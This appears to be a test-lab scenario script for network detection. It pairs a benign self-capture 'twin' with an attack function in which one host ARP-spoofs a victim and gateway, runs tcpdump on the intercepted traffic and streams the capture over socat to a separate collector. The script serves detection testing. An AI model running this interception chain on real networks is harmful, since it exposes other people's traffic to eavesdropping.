#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
#
# tcpdump on a relay, piped out over TCP.
# Twin: a tenant sends a capture of its own traffic to its own collector.
set -u
# shellcheck source-path=SCRIPTDIR source=site.sh
. "$(dirname "$0")/site.sh"

export_from() { # HOST COLLECTOR ADDRESS FILTER
	site_web gate 198.51.100.80
	site_life k1 http://198.51.100.80/file l1 http://198.51.100.80/file
	lab_start "$2" /dev/null socat -u TCP-LISTEN:9331,reuseaddr OPEN:/dev/null
	sleep 0.5
	# shellcheck disable=SC2016 # for the inner shell
	lab_start "$1" "$LAB_DIR/tool.log" bash -c \
		'exec tcpdump -U -s 200 -i eth0 -w - "$2" > >(exec socat -u - "TCP:$1:9331")' \
		export "$3" "$4"
}

twin() {
	export_from k1 k2 172.23.40.18 "icmp or tcp port 80"
	sleep 4
}

attack() {
	site_router_on m1
	lab_start m1 "$LAB_DIR/tool2.log" arpspoof -i eth0 -t 172.23.40.17 -r 172.23.40.1
	export_from m1 m2 172.23.42.201 "host 172.23.40.17 and not arp"
	site_await 12 relay.forward relay.capture-export
}

site_run tcpdump_export harbor span arpspoof socat
